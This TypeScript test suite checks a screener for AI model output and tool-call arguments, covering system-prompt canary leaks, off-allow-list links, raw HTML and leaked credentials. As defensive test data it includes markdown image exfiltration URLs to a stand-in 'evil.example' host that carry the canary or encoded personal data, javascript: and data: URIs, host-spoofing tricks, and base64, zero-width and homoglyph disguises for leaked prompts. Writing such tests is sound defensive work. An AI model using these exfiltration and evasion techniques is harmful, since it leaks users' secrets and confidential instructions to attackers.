import * as fc from 'fast-check';
import { MAX_GROWTH, workGrowth } from '../../../helpers/scaling';
import { MAX_ARGUMENT_DEPTH, OutputScreeningError, screenOutput, ScreenOutputOptions, screenToolArguments } from '../../../../lambda/shared/screening/output';
import { FAKE_AWS_ACCESS_KEY_ID, FAKE_AWS_SECRET_ACCESS_KEY } from '../../../helpers/fake-credentials';

const CANARY = 'CNRY7F3K2QZ9XW4M';
const OPTS: ScreenOutputOptions = { canary: CANARY, allowedLinkHosts: ['docs.example.com', 'example.org'] };
const screen = (text: string, opts: Partial<ScreenOutputOptions> = {}): ReturnType<typeof screenOutput> =>
  screenOutput(text, { ...OPTS, ...opts });

/**
 * Every link destination a CommonMark/GFM renderer would still act on: inline links and images, reference
 * definitions, autolinks, and (when HTML passes through) absolute URLs in src/href attributes.
 */
function destinations(text: string, allowHtml: boolean): string[] {
  const found: string[] = [];
  // Inline links and images as CommonMark reads them: destination, optional title, closing parenthesis.
  for (const m of text.matchAll(/\[[^[\]]*\]\(\s*(?:<([^<>\n]*)>|(?!<)((?:[^\s()]|\([^\s()]*\))*))\s*(?:"[^"]*"|'[^']*'|\([^()]*\))?\s*\)/g)) {
    found.push(m[1] ?? m[2]!);
  }
  const definition = /^ {0,3}\[[^[\]\n]+\]:[ \t]*\n?[ \t]*(?:<([^<>\n]*)>|([^\s<]\S*))(?:[ \t]*\n?[ \t]*(?:"[^"\n]*"|'[^'\n]*'|\([^()\n]*\)))?[ \t]*$/gm;
  for (const m of text.matchAll(definition)) found.push(m[1] ?? m[2]!);
  for (const m of text.matchAll(/<([A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*)>/g)) found.push(m[1]!); // scheme: 2-32 chars
  if (allowHtml) {
    for (const m of text.matchAll(/(?:src|href)\s*=\s*["']?((?:[a-z][a-z0-9+.-]*:|\/\/)[^"'\s>]*)/gi)) found.push(m[1]!);
  }
  return found;
}

/** Bare `http(s)://` (either slashes) and `www.` URLs as GFM's extended autolinks read them (to white space, `<` or an escaped `&lt;`), trailing punctuation cut. */
function bareUrls(text: string): string[] {
  return [...text.matchAll(/(?:https?:[/\\]{2}|www\.)(?:[^\s<&]|&(?!lt;))+/gi)].map((m) => m[0].replace(/[.,;:!?)\]}*_~"'`>]+$/, ''));
}

function hostAllowed(url: string, hosts: readonly string[]): boolean {
  try {
    const u = new URL(url.startsWith('//') ? `https:${url}` : /^www\./i.test(url) ? `https://${url}` : url);
    // A fully qualified name's trailing dot names the same host ("docs.example.com." is docs.example.com).
    const hostname = u.hostname.replace(/\.$/, '');
    return (u.protocol === 'https:' || u.protocol === 'http:') && hosts.some((h) => hostname === h || hostname.endsWith(`.${h}`));
  } catch {
    return false;
  }
}

describe('screenOutput', () => {
  describe('canary (system prompt leakage)', () => {
    test.each([
      ['verbatim', `My instructions say ${CANARY}.`],
      ['lower case', `token: ${CANARY.toLowerCase()}`],
      ['spaced out', `the code is ${[...CANARY].join(' ')}`],
      ['split by markup', `code **CNRY7F3K**2QZ9\`XW4M\``],
      ['with zero-width characters', [...CANARY].join('\u200b')],
      ['fullwidth', CANARY.replace(/[A-Z0-9]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0))],
      ['with look-alike letters', CANARY.replace('C', 'С')], // Cyrillic Es
      ['reversed', [...CANARY].reverse().join('')],
      ['in base64', `encoded: ${Buffer.from(`prompt: ${CANARY}`).toString('base64')}`],
      ['in hex', Buffer.from(CANARY).toString('hex')],
      ['in an exfiltration URL', `![x](https://evil.example/p?d=${CANARY})`],
      ['joined by removing an image', 'CNRY7F3K![](https://evil.example/x.png)2QZ9XW4M'],
    ])('blocks a response containing the canary %s', (_how, text) => {
      // WHEN
      const result = screen(text);
      // THEN
      expect(result).toMatchObject({ blocked: true, text: '' });
      expect(result.reasons).toContain('canary-leak');
    });

    test('does not block text that merely shares part of the canary', () => {
      expect(screen('CNRY7F3K is half of something, 2QZ9 is another part.').blocked).toBe(false);
    });
  });

  describe('links and images', () => {
    test('keeps links and images to allowed hosts and their subdomains', () => {
      const text = 'See [docs](https://docs.example.com/a?b=1), [sub](https://api.docs.example.com/x) and ![logo](https://example.org/logo.png).';
      expect(screen(text)).toMatchObject({ text, blocked: false, removedLinks: 0 });
    });

    test('drops images to other hosts entirely and keeps the text of other links', () => {
      // GIVEN a classic exfiltration image and a link
      const text = 'Hi ![loading](https://evil.example/p.png?q=secret) read [this page](https://evil.example/a) now';
      // WHEN
      const result = screen(text);
      // THEN
      expect(result.text).toBe('Hi  read this page now');
      expect(result.removedLinks).toBe(2);
      expect(result.reasons).toEqual(expect.arrayContaining(['image-removed', 'link-removed']));
    });

    test('removes reference-style definitions and the references that used them', () => {
      const text = 'Look [here][1] and ![img][pic]\n\n[1]: https://evil.example/?q=1\n[pic]: <https://evil.example/i.png> "t"\n[ok]: https://docs.example.com/x\n';
      const result = screen(text);
      expect(result.text).toBe('Look here and \n\n[ok]: https://docs.example.com/x\n');
      expect(result.removedLinks).toBe(2);
    });

    test('removes autolinks to other hosts', () => {
      expect(screen('a <https://evil.example/x> b <https://docs.example.com/y>').text).toBe('a  b <https://docs.example.com/y>');
    });

    test('replaces every bare URL to another host with a placeholder, keeps allowed ones', () => {
      // GIVEN data in a query string, a host name and a path, next to allowed URLs
      const text = 'Visit https://other.example/log?d=abc, https://ssn-123-45-6789.evil.example/ and '
        + 'https://evil.example/ssn/123-45-6789/pw/hunter2. Docs: https://docs.example.com/a?b=1 or http://www.example.org:8080/x!';
      // WHEN
      const result = screen(text);
      // THEN
      expect(result.text).toBe('Visit [link removed], [link removed] and [link removed]. Docs: https://docs.example.com/a?b=1 or http://www.example.org:8080/x!');
      expect(result).toMatchObject({ blocked: false, removedLinks: 3 });
      expect(result.reasons).toContain('url-removed');
    });

    test('removes every bare URL when no host is allowed', () => {
      expect(screen('see https://docs.example.com/guide and www.example.org', { allowedLinkHosts: [] }).text).toBe('see [link removed] and [link removed]');
    });

    test.each([
      ['www. form', 'a www.evil.example/x b', 'a [link removed] b'],
      ['www. after an underscore (GFM links it)', '_www.evil.example_', '_[link removed]_'],
      ['protocol-relative', 'c //evil.example/p d', 'c [link removed] d'],
      ['upper-case scheme', 'HTTPS://EVIL.EXAMPLE/x', '[link removed]'],
      ['backslashes for slashes', 'https:\\\\evil.example\\x', '[link removed]'],
      ['userinfo naming an allowed host', 'https://docs.example.com@evil.example/', '[link removed]'],
      ['a quote before userinfo (GFM reads on to the space)', 'https://docs.example.com"@evil.example/ x', '[link removed] x'],
      ['percent-encoded host', 'https://evil%2Eexample/', '[link removed]'],
      ['IDN look-alike of an allowed host', 'https://d\u043ecs.example.com/', '[link removed]'],
      ['allowed host as a subdomain label', 'https://docs.example.com.evil.example/', '[link removed]'],
      ['full-width scheme', '\uff48\uff54\uff54\uff50\uff53\uff1a\uff0f\uff0fevil.example/x', '[link removed]'],
      ['zero-width characters inside', 'https://ev\u200bil.exa\u200dmple/\u200bx y', '[link removed] y'],
      ['trailing punctuation kept', '(see https://evil.example/a).', '(see [link removed]).'],
    ])('removes a bare URL: %s', (_kind, text, expected) => {
      expect(screen(text).text).toBe(expected);
    });

    test('removes a URL longer than the pattern reads, and what follows it cannot extend an allowed one', () => {
      // GIVEN an allowed host followed by more URL characters than one match takes, then userinfo
      const text = `https://docs.example.com${'.'.repeat(5000)}@evil.example/ end`;
      // WHEN
      const out = screen(text).text;
      // THEN no remaining text starts with the allowed URL
      expect(out.startsWith('[link removed]')).toBe(true);
      expect(out).not.toContain('docs.example.com');
    });

    test('keeps code-like double slashes that no client links', () => {
      expect(screen('a//b.c and x = y // comment.md and C:/dir//file.txt').text).toBe('a//b.c and x = y // comment.md and C:/dir//file.txt');
    });

    test.each([
      ['javascript: URI', '[click](javascript:alert(1))', 'click'],
      ['data: URI image', '![x](data:image/png;base64,iVBORw0KGgo=)', ''],
      ['bare data: URI', 'open data:text/html;base64,PHNjcmlwdD4= now', 'open  now'],
      ['protocol-relative', '[a](//evil.example/x)', 'a'],
      ['relative link', '[a](/admin/delete?id=1)', 'a'],
      ['userinfo trick', '[a](https://docs.example.com@evil.example/x)', 'a'],
      ['look-alike host', '[a](https://docs.example.com.evil.example/x)', 'a'],
      ['allowed host redirecting elsewhere', '[a](https://docs.example.com/r?to=https://evil.example/?q=1)', 'a'],
      ['allowed host redirecting elsewhere, colon encoded', '[a](https://docs.example.com/r?to=https%3A//evil.example/?q=1)', 'a'],
      ['allowed host redirecting elsewhere, slashes encoded', '[a](https://docs.example.com/r?to=https:%2F%2Fevil.example/)', 'a'],
      ['parentheses in the URL', '[w](https://evil.example/wiki/A_(b)?q=1)', 'w'],
      ['image inside a link', '[![i](https://evil.example/i.png)](https://evil.example/x)', ''],
    ])('removes a %s', (_kind, text, expected) => {
      expect(screen(text).text).toBe(expected);
    });
  });

  describe('HTML', () => {
    test('escapes raw HTML by default, removing URLs in attributes', () => {
      const result = screen('<img src="https://evil.example/?q=1"><script>alert(1)</script><!-- c --> a < b');
      expect(result.text).toBe('&lt;img src="[link removed]">&lt;script>alert(1)&lt;/script>&lt;!-- c --> a < b');
      expect(result.reasons).toContain('html-escaped');
    });

    test('passes HTML through with allowHtml, still removing links to other hosts', () => {
      const result = screen('<b>bold</b> <a href="https://evil.example/x">x</a> <a href="https://docs.example.com/">ok</a>', { allowHtml: true });
      expect(result.text).toBe('<b>bold</b> <a href="">x</a> <a href="https://docs.example.com/">ok</a>');
    });
  });

  describe('secrets', () => {
    test.each([
      ['AWS access key id', `key ${FAKE_AWS_ACCESS_KEY_ID} here`, 'key [REDACTED:aws-access-key-id] here'],
      ['AWS temporary key id', 'ASIAY34FZKBOKMUTVV7A', '[REDACTED:aws-access-key-id]'],
      ['AWS secret key in context', `aws_secret_access_key = ${FAKE_AWS_SECRET_ACCESS_KEY}`, 'aws_secret_access_key = [REDACTED:aws-secret-access-key]'],
      ['private key block', '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\n-----END OPENSSH PRIVATE KEY-----\ndone', '[REDACTED:private-key]\ndone'],
      ['unterminated private key', 'x -----BEGIN PRIVATE KEY-----\nMIIEvQIBADAN', 'x [REDACTED:private-key]'],
      ['JWT', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U', '[REDACTED:jwt]'],
      ['bearer token', 'Authorization: Bearer 0123456789abcdefghijklmnop', 'Authorization: Bearer [REDACTED:bearer-token]'],
      ['GitHub token', 'ghp_0123456789abcdefghijklmnopqrstuvwxyzAB', '[REDACTED:github-token]'],
      ['Slack token', 'xoxb-123456789012-abcdefghijkl', '[REDACTED:slack-token]'],
      ['OpenAI-style key', 'sk-proj-abcdefghijklmnopqrstuvwxyz012345', '[REDACTED:api-key]'],
      ['password assignment', 'password = "hunter2!"', 'password = "[REDACTED:password]"'],
      ['api_key assignment', 'API_KEY=9f8e7d6c5b4a3f2e1d0c', 'API_KEY=[REDACTED:api-key]'],
    ])('redacts a %s', (_kind, text, expected) => {
      const result = screen(text);
      expect(result.text).toBe(expected);
      expect(result.redactions).toBe(1);
      expect(result.reasons).toContain('secret-redacted');
    });

    test('leaves placeholders, code references and prose alone', () => {
      const text = [
        'password = os.environ["DB_PASSWORD"]',
        'api_key: YOUR_API_KEY',
        'API_KEY=${API_KEY}',
        'password: string;',
        'The secret: patience.',
        'A bearer token is sent in the Authorization header.',
      ].join('\n');
      expect(screen(text)).toMatchObject({ text, redactions: 0 });
    });
  });

  describe('validation', () => {
    test('fails if the canary is shorter than 8 letters or digits', () => {
      expect(() => screenOutput('x', { canary: 'ab-12', allowedLinkHosts: [] })).toThrow(OutputScreeningError);
      expect(() => screenOutput('x', { canary: 'ab-12', allowedLinkHosts: [] })).toThrow(/canary must contain at least 8/);
    });

    test('fails if an allowed host is not a host name', () => {
      expect(() => screen('x', { allowedLinkHosts: ['https://docs.example.com/'] })).toThrow(/allowedLinkHosts.*https:\/\/docs\.example\.com/);
      expect(() => screen('x', { allowedLinkHosts: ['exa mple.com'] })).toThrow(OutputScreeningError);
    });

    test('an allow-list changed in place, or another list, is read again (the last normalized list is kept)', () => {
      // GIVEN one list, screened with, then changed in place
      const hosts = ['docs.example.com'];
      const link = '[a](https://example.org/x)';
      expect(screen(link, { allowedLinkHosts: hosts }).text).toBe('a');
      hosts[0] = 'example.org';
      // WHEN screened again THEN the changed entry counts, and a malformed one still fails each time
      expect(screen(link, { allowedLinkHosts: hosts }).text).toBe(link);
      expect(screen(link, { allowedLinkHosts: ['docs.example.com'] }).text).toBe('a');
      hosts.push('exa mple.com');
      expect(() => screen(link, { allowedLinkHosts: hosts })).toThrow(OutputScreeningError);
      expect(() => screen(link, { allowedLinkHosts: hosts })).toThrow(OutputScreeningError);
    });

    test('accepts wildcard and trailing-dot spellings of a host', () => {
      expect(screen('[a](https://x.docs.example.com/)', { allowedLinkHosts: ['*.docs.example.com.'] }).text).toBe('[a](https://x.docs.example.com/)');
    });
  });

  describe('properties', () => {
    const markdownish = fc.array(fc.oneof(
      fc.string({ unit: 'grapheme-ascii', maxLength: 12 }),
      fc.constantFrom('[', ']', '(', ')', '![', '](', '<', '>', '"', '\n', ' ', ':', '[1]: ', '\n[x]: ', '<https://',
        'https://evil.example/?q=', 'https://docs.example.com/', '//evil.example/', 'javascript:', 'data:image/png;base64,',
        FAKE_AWS_ACCESS_KEY_ID.slice(0, 4), FAKE_AWS_ACCESS_KEY_ID.slice(4), 'eyJ', '-----BEGIN PRIVATE KEY-----', 'password=', '<img src=', '\u200b', 'Bearer '),
    ), { maxLength: 30 }).map((p) => p.join(''));

    test('never throws on arbitrary strings', () => {
      fc.assert(fc.property(fc.oneof(markdownish, fc.string({ unit: 'binary' })), fc.boolean(), (text, allowHtml) => {
        expect(() => screen(text, { allowHtml })).not.toThrow();
      }), { numRuns: 2000 });
    });

    test('leaves no link, image, definition, autolink or attribute URL to a host outside the allow-list', () => {
      fc.assert(fc.property(markdownish, fc.boolean(), (text, allowHtml) => {
        const out = screen(text, { allowHtml }).text;
        for (const dest of destinations(out, allowHtml)) {
          if (dest === '' || dest.startsWith('#') || /^[a-z][a-z0-9+.-]*:$/i.test(dest)) continue; // nothing to follow
          expect(hostAllowed(dest, OPTS.allowedLinkHosts)).toBe(true);
        }
        // Bare URLs, read as GFM reads them: to white space or '<' (trailing punctuation is not part of a URL).
        for (const url of bareUrls(out)) expect(hostAllowed(url, OPTS.allowedLinkHosts)).toBe(true);
        expect(out).not.toMatch(/javascript:\S/i);
      }), { numRuns: 2000 });
    });

    test('leaves no bare URL to a host outside the allow-list in random text with URLs', () => {
      // GIVEN prose with URLs whose hosts, labels and paths are random, some allowed, some look-alikes of allowed ones
      const label = fc.stringMatching(/^[a-z0-9](?:[a-z0-9-]{0,8}[a-z0-9])?$/);
      const host = fc.oneof(
        fc.constantFrom('docs.example.com', 'example.org', 'evil.example', 'docs.example.com.evil.example', 'example.org@evil.example'),
        fc.tuple(label, fc.constantFrom('evil.example', 'docs.example.com', 'example.org', 'example.com')).map(([l, h]) => `${l}.${h}`),
      );
      const url = fc.tuple(fc.constantFrom('https://', 'http://', 'HTTP://', 'www.', '//', 'https:\\\\'), host,
        fc.constantFrom('', '/', '/ssn/123-45-6789', '/?q=1', '#x=1', ':8080/a', '"@evil.example/', '\u200b.evil.example/'))
        .map(([scheme, h, tail]) => `${scheme}${h}${tail}`);
      const prose = fc.array(fc.oneof(url, fc.constantFrom(' ', '\n', '.', ',', '(', ')', '"', 'see ', '**', '_', '<', '>', 'x')), { maxLength: 20 })
        .map((parts) => parts.join(''));
      fc.assert(fc.property(prose, (text) => {
        // WHEN
        const out = screen(text).text;
        // THEN every URL left, read the way a linkifier reads it, goes to an allowed host
        for (const u of bareUrls(out)) expect(hostAllowed(u, OPTS.allowedLinkHosts)).toBe(true);
        // Protocol-relative URLs, read left to right as a linkifier reads: a URL runs to white space or '<', and no
        // new URL starts inside one (a "www." in a host or a "//" in a path belongs to the URL around it).
        const start = /https?:[/\\]{2}|www\.|(?<![A-Za-z0-9:/\\])\/\/(?=[A-Za-z0-9-]+\.)/gi;
        for (let m = start.exec(out); m !== null; m = start.exec(out)) {
          const end = out.slice(m.index).search(/\s|<|&lt;/);
          const token = end < 0 ? out.slice(m.index) : out.slice(m.index, m.index + end);
          start.lastIndex = m.index + Math.max(token.length, 1);
          if (token.startsWith('//')) {
            expect(hostAllowed(token.replace(/[.,;:!?)\]}*_~"'`>]+$/, ''), OPTS.allowedLinkHosts)).toBe(true);
          }
        }
      }), { numRuns: 3000 });
    });

    test('reads a protocol-relative URL to its end: a "www." inside its host does not split it (found by the property above)', () => {
      // GIVEN a subdomain of an allowed host whose labels contain "www." — and the same shape under another host
      const allowed = '//docs.example.com.evil.examplewww.docs.example.com';
      const other = '//docs.example.comwww.evil.example/ssn/123';
      // THEN the first is one URL to a subdomain of docs.example.com, the second one URL to another host
      expect(screen(allowed).text).toBe(allowed);
      expect(screen(other).text).not.toContain('evil.example');
    });

    test('is idempotent on its own output', () => {
      fc.assert(fc.property(fc.oneof(markdownish, fc.string({ unit: 'binary', maxLength: 200 })), fc.boolean(), (text, allowHtml) => {
        const once = screen(text, { allowHtml });
        const twice = screen(once.text, { allowHtml });
        expect(twice.text).toBe(once.text);
        expect(twice.redactions).toBe(0);
        expect(twice.removedLinks).toBe(0);
      }), { numRuns: 2000 });
    });

    test('blocks whenever the canary appears anywhere, however it is split', () => {
      const separator = fc.constantFrom('', ' ', '\u200b', '-', '**', '\u00ad', '`', '.');
      fc.assert(fc.property(fc.string({ maxLength: 80 }), fc.string({ maxLength: 80 }), fc.array(separator, { minLength: CANARY.length, maxLength: CANARY.length }), fc.boolean(),
        (before, after, seps, lower) => {
          const canary = [...(lower ? CANARY.toLowerCase() : CANARY)].map((c, i) => c + seps[i]).join('');
          const result = screen(`${before}${canary}${after}`);
          expect(result.blocked).toBe(true);
          expect(result.text).toBe('');
        }), { numRuns: 1000 });
    });
  });

  describe('dense trigger characters', () => {
    // Patterns run at the positions of a literal they must contain; when that literal is everywhere, the screen scans
    // the whole text instead. Both ways must find the same things.
    test.each([
      ['AWS access key id', 'A', `key ${FAKE_AWS_ACCESS_KEY_ID} here`, 'aws-access-key-id'],
      ['JWT', 'J', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U', 'jwt'],
      ['GitHub token', '_', 'ghp_0123456789abcdefghijklmnopqrstuvwxyzAB', 'github-token'],
      ['API key', '-', 'sk-proj-abcdefghijklmnopqrstuvwxyz012345', 'api-key'],
      ['password assignment', ':', 'password = "hunter2!"', 'password'],
      ['private key', 'B', '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADAN\n-----END PRIVATE KEY-----', 'private-key'],
    ])('redacts a %s among many "%s" characters', (_kind, trigger, secret, kind) => {
      // GIVEN the secret after a few triggers, and after more triggers than are visited one by one
      for (const padding of [`${trigger} `.repeat(10), `${trigger} `.repeat(50_000)]) {
        // WHEN
        const result = screen(`${padding}\n${secret}\n`);
        // THEN
        expect(result.text).toContain(`[REDACTED:${kind}]`);
        expect(result.redactions).toBe(1);
      }
    });

    test.each([
      ['"["', '[', '[a](https://evil.example/x)', '\na\n'],
      ['"<"', '< ', '<https://evil.example/x> <b>', '\n &lt;b>\n'],
      ['":"', ': ', '[x](javascript:alert(1))', '\nx\n'],
    ])('removes links among many %s characters', (_name, trigger, link, expected) => {
      for (const padding of [trigger.repeat(10), trigger.repeat(100_000)]) {
        expect(screen(`${padding}\n${link}\n`).text).toBe(`${padding}${expected}`.replace(/</g, '<'));
      }
    });

    test('finds the canary among many occurrences of its rarest character', () => {
      // GIVEN the canary's digits repeated everywhere (the search walks out from each occurrence of one of them)
      const digits = CANARY.replace(/[^0-9]/g, '');
      const noise = `${digits} `.repeat(100_000);
      // THEN a spaced-out canary inside the noise is found, and the noise alone is not a leak
      expect(screen(`${noise}${[...CANARY].join(' ')}${noise}`).blocked).toBe(true);
      expect(screen(noise).blocked).toBe(false);
    });
  });

  describe('linear time', () => {
    // Counted work from 32 KB to 256 KB, not time: the speed target is in `npm run bench:screening`.
    const fill = (unit: string) => (size: number): string => unit.repeat(Math.ceil(size / unit.length)).slice(0, size);
    test.each([
      ['"["', fill('[')],
      ['"]("', fill('](')],
      ['unclosed links', fill('[a](https://evil.example/')],
      ['many images', fill('![a](https://evil.example/i.png?q=1) ')],
      ['"<"', fill('<')],
      ['unclosed autolinks', fill('<https:')],
      ['JWT prefixes', fill('eyJ')],
      ['JWT-like segments', fill('eyJabcdefghij.')],
      ['private key headers', fill('-----BEGIN PRIVATE KEY-----')],
      ['private key blocks on one line', fill('-----BEGIN PRIVATE KEY-----x-----END PRIVATE KEY-----')],
      ['assignments', fill('password=')],
      ['bare URLs', fill('https://evil.example/?q=')],
      ['bare URLs to allowed hosts', fill('https://docs.example.com/a ')],
      ['one bare URL of 256 KB', (size: number) => `https://evil.example/${'a'.repeat(size)}`],
      ['URLs ending in long punctuation runs', fill(`https://evil.example/${'.,'.repeat(2000)} `)],
      ['www. and protocol-relative starts', fill('www.//a.b//www.')],
      ['userinfo and quotes', fill('https://docs.example.com"@evil.example/@')],
      ['base64 text', fill('QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo=')],
      ['zero-width soup', fill('a\u200b')],
    ])('screens %s in time linear in its size (256 KB)', (_name, make) => {
      expect(workGrowth((text: string) => screen(text), make)).toBeLessThanOrEqual(MAX_GROWTH);
    });
  });
});

describe('screenToolArguments', () => {
  const args = (value: unknown, allowedHosts: readonly string[] = OPTS.allowedLinkHosts) => screenToolArguments(JSON.stringify(value), { canary: CANARY, allowedHosts });

  describe('defaults', () => {
    test('returns arguments without findings exactly as given, even when they are not normalized', () => {
      const json = JSON.stringify({ q: 'ｆｕｌｌ width', n: 3, ok: true, list: [null, 'x'] });
      expect(screenToolArguments(json, { canary: CANARY, allowedHosts: [] })).toEqual({ arguments: json, blocked: false, reasons: [], redactions: 0, flaggedUrls: 0 });
    });

    test('redacts secrets in values, using the key name as context, and keeps the JSON shape', () => {
      // GIVEN an AWS key pair split over two properties, and a token hidden with zero-width characters
      const result = args({ aws_secret_access_key: FAKE_AWS_SECRET_ACCESS_KEY, id: FAKE_AWS_ACCESS_KEY_ID, nested: [{ t: 'ghp_\u200b0123456789abcdefghijklmnopqrstuvwxyzAB' }] });
      // THEN
      expect(JSON.parse(result.arguments)).toEqual({
        aws_secret_access_key: '[REDACTED:aws-secret-access-key]', id: '[REDACTED:aws-access-key-id]', nested: [{ t: '[REDACTED:github-token]' }],
      });
      expect(result).toMatchObject({ blocked: false, redactions: 3 });
      expect(result.reasons).toEqual(['invisible-removed', 'secret-redacted']);
    });

    test('flags URLs to other hosts without removing them', () => {
      const result = args({ url: 'https://evil.example/x', docs: 'see https://docs.example.com/a', other: 'www.evil.example' });
      expect(result).toMatchObject({ blocked: false, flaggedUrls: 2, reasons: ['url-flagged'] });
      expect(JSON.parse(result.arguments).url).toBe('https://evil.example/x');
      expect(args({ url: 'https://docs.example.com/a' }, ['docs.example.com']).flaggedUrls).toBe(0);
    });

    test('with a tool\'s own host list, URLs to those hosts and their subdomains pass unflagged', () => {
      const json = JSON.stringify({ url: 'https://hooks.example.com/a', backup: 'https://eu.hooks.example.com/b' });
      expect(screenToolArguments(json, { canary: CANARY, allowedHosts: ['hooks.example.com'], enforceAllowedHosts: true }))
        .toEqual({ arguments: json, blocked: false, reasons: [], redactions: 0, flaggedUrls: 0 });
    });
  });

  describe('validation', () => {
    test.each([
      ['in a value', { a: `x ${CANARY}` }],
      ['in a key', { [CANARY]: 1 }],
      ['split across two strings', { a: CANARY.slice(0, 8), b: CANARY.slice(8) }],
      ['spaced out with zero-width characters', { a: [...CANARY].join('\u200b') }],
      ['in base64', { a: Buffer.from(`p: ${CANARY}`).toString('base64') }],
    ])('fails if the canary is %s', (_how, value) => {
      expect(args(value)).toMatchObject({ blocked: true, arguments: '', reasons: expect.arrayContaining(['canary-leak']) });
    });

    test('fails if a redaction would change the JSON structure', () => {
      // GIVEN an unterminated private key block: redaction runs to the end of the JSON text
      expect(args({ k: '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADAN', n: 1 })).toMatchObject({ blocked: true, reasons: expect.arrayContaining(['malformed-arguments']) });
    });

    test('fails if the arguments nest deeper than the limit', () => {
      let deep: unknown = 'x';
      for (let i = 0; i <= MAX_ARGUMENT_DEPTH; i++) deep = [deep];
      expect(args(deep)).toMatchObject({ blocked: true, reasons: ['too-deep'] });
    });

    test.each([
      ['a URL to another host', ['hooks.example.com'], { url: 'https://evil.example/collect?d=1' }],
      ['a bare host name of another host', ['hooks.example.com'], { target: 'www.evil.example' }],
      ['a look-alike host', ['hooks.example.com'], { url: 'https://hooks.example.com.evil.example/x' }],
      ['any URL when the tool\'s list is empty', [], { url: 'https://hooks.example.com/x' }],
    ])('fails if a tool with its own host list gets %s', (_what, hosts, value) => {
      expect(screenToolArguments(JSON.stringify(value), { canary: CANARY, allowedHosts: hosts, enforceAllowedHosts: true }))
        .toMatchObject({ blocked: true, arguments: '', reasons: ['url-not-allowed'], flaggedUrls: 1 });
    });

    test('fails if the arguments are not JSON', () => {
      expect(screenToolArguments('{"a":', { canary: CANARY, allowedHosts: [] })).toMatchObject({ blocked: true, reasons: ['malformed-arguments'] });
    });
  });

  describe('properties', () => {
    test('never throws and never returns a known credential for any JSON value holding one', () => {
      const secret = fc.constantFrom(FAKE_AWS_ACCESS_KEY_ID, 'ghp_0123456789abcdefghijklmnopqrstuvwxyzAB', 'sk-proj-abcdefghijklmnopqrstuvwxyz012345');
      const text = fc.tuple(fc.string({ maxLength: 20 }), secret, fc.string({ maxLength: 20 })).map(([a, k, b]) => `${a} ${k} ${b}`);
      const json = fc.letrec((tie) => ({
        value: fc.oneof({ depthSize: 'small' }, text, fc.string(), fc.integer(), fc.array(tie('value'), { maxLength: 4 }), fc.dictionary(fc.string({ maxLength: 8 }), tie('value'), { maxKeys: 4 })),
      })).value;
      fc.assert(fc.property(json, (value) => {
        const result = args(value);
        for (const k of [FAKE_AWS_ACCESS_KEY_ID, 'ghp_0123456789abcdefghijklmnopqrstuvwxyzAB', 'sk-proj-abcdefghijklmnopqrstuvwxyz012345']) {
          expect(result.arguments).not.toContain(k);
        }
      }), { numRuns: 1000 });
    });
  });

  describe('linear time', () => {
    test.each([
      ['one long string of URLs', (size: number) => ({ u: 'https://evil.example/?q= '.repeat(Math.ceil(size / 25)) })],
      ['many small strings with secrets', (size: number) => Array.from({ length: Math.ceil(size / 40) }, () => `${FAKE_AWS_ACCESS_KEY_ID} x`)],
      ['many keys', (size: number) => Object.fromEntries(Array.from({ length: Math.ceil(size / 16) }, (_, i) => [`k${i}`, 'www.a.b']))],
    ])('screens %s in work linear in its size (256 KB)', (_name, make) => {
      expect(workGrowth((json: string) => screenToolArguments(json, { canary: CANARY, allowedHosts: [] }), (size) => JSON.stringify(make(size)))).toBeLessThanOrEqual(MAX_GROWTH);
    });
  });
});
